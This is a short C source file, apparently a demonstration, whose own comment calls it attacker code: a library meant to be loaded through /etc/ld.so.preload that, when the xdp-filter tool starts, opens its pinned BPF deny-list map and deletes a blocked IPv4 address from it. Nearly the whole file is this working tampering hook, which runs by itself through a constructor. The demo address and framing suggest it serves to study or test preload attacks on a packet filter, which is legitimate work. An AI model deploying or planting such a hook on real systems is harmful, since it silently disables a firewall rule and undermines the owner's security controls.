// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * The attacker's code in the tool's own process: a library that /etc/ld.so.preload names. When
 * xdp-filter starts, it strikes the demo's denied address from the list.
 */
#include <errno.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LIST "/sys/fs/bpf/xdp-filter/filter_ipv4"

__attribute__((constructor)) static void strike(void)
{
	const uint8_t address[] = {127, 0, 0, 66};
	union bpf_attr attr = {.pathname = (uintptr_t)LIST};
	int fd;

	if (strcmp(program_invocation_short_name, "xdp-filter") != 0)
		return;
	fd = (int)syscall(SYS_bpf, BPF_OBJ_GET, &attr, sizeof(attr));
	if (fd < 0)
		return;
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = (uint32_t)fd;
	attr.key = (uintptr_t)address;
	(void)syscall(SYS_bpf, BPF_MAP_DELETE_ELEM, &attr, sizeof(attr));
	close(fd);
}
